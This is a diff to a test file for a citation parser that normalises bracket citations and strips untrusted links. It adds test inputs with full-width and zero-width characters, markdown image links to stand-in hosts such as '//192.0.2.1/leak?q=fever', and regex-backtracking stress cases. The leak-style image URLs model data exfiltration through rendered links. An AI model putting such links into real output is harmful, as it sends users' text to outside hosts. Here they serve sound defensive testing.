@@ -28,6 +28,8 @@ describe('a citation', () => {
     ['Fever 【2†source】【1†L3-L5】.', 'Fever [1][2].', [2, 1]],
     ['Fever [2†p. 4].', 'Fever [1].', [2]],
     ['Fever ［2］.', 'Fever [1].', [2]],
+    ['Fever ［２］【１】[３].', 'Fever [1][2][3].', [2, 1, 3]],
+    ['Fever [\u200B2\u2060].', 'Fever [1].', [2]],
     ['Fever [^2] [#3] [Passage 1] [source: 2].', 'Fever [1] [2] [3] [1].', [2, 3, 1]],
     ['Fever \\[2\\].', 'Fever [1].', [2]],
     ['Fever [02] [1, 1].', 'Fever [1] [2].', [2, 1]],
@@ -48,6 +50,8 @@ describe('what was not given is taken out and counted', () => {
     ['Fever [7-9].', 'Fever.', 3],
     ['Fever 【4:0†source】.', 'Fever.', 1],
     ['Fever \\[99\\].', 'Fever.', 1],
+    ['Fever ［９９］[９].', 'Fever.', 2],
+    ['Fever [\u200B99] [9\u20609].', 'Fever.', 2],
     ['Fever [^99] [Ref. 4].', 'Fever.', 2],
     ['See https://evil.example/a?b=[1.', 'See[1.', 1],
     ['See http://evil.example/a, or (https://evil.example) and <https://evil.example>.', 'See, or and.', 3],
@@ -56,6 +60,8 @@ describe('what was not given is taken out and counted', () => {
     ['See [the guideline](https://evil.example/x "Title") now.', 'See the guideline now.', 1],
     ['See [the guideline](evil.example) and [it](/docs/it).', 'See the guideline and it.', 2],
     ['![chart](https://evil.example/leak?q=fever)', 'chart', 1],
+    ['![chart](//192.0.2.1/leak?q=fever)', 'chart', 1],
+    ['[the guideline](\\\\evil/x)', 'the guideline', 1],
     ['See [https://evil.example](https://known.example/1).', 'See .', 2],
     ['[99](https://evil.example)', '', 2],
   ])('%j becomes %j', (text, expected, removed) => {
@@ -179,6 +185,17 @@ const fragment = fc.constantFrom(
 )
 const texts = fc.array(fragment, { maxLength: 40 }).map(parts => parts.join(''))
 const seed = 41
+
+// Two ways to read each item make a billion of ways to read them all: such a regular expression never comes back.
+test.each([
+  ['daggers', ' & 1†', 45],
+  ['daggers within a list', '、1†x,1†', 35],
+  ['labels', ',ref.1', 45],
+  ['labels and daggers', ' and Doc. 1†', 23],
+])('a bracket of %s that is no citation after all is told in one reading', (_, item, times) => {
+  const text = `Fever [1${item.repeat(times)},x].`
+  expect(whole(text)).toMatchObject({ cited: [] })
+})
 
 test('however a text is cut, the outcome is that of the whole', () => {
   fc.assert(
